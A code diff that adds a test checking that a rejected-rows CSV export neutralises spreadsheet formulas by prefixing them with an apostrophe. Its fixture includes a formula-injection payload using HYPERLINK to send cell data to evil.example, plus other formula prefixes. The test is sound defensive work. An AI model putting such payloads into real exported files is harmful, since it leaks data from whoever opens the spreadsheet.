@@ -231,6 +231,17 @@ def test_rejected_file_lists_every_rejection_while_the_database_keeps_the_first(
     assert [row[:2] for row in listed[1:]] == [[str(line), "invalid"] for line in range(2, 7)]
 
 
+def test_rejected_file_keeps_a_row_written_as_a_formula_from_running_in_a_spreadsheet(tmp_path, areas):
+    rows = ['=HYPERLINK("http://evil.example/?"&A1)', "+6281", "-1+2", "@SUM(1)", "\tx", "bad"]
+    job = run_import(write(tmp_path, "msisdn\n" + "\n".join(rows) + "\n"))
+
+    with open(job.rejected_path, encoding="utf-8", newline="") as handle:
+        listed = [row[2] for row in list(csv.reader(handle))[1:]]
+    assert listed == ["'" + row if row != "bad" else row for row in rows]
+    # The database keeps what the file said; only the download is made safe to open.
+    assert job.rejections.order_by("line").first().raw == rows[0]
+
+
 # --- upserts ----------------------------------------------------------------------------------------------------
 
 
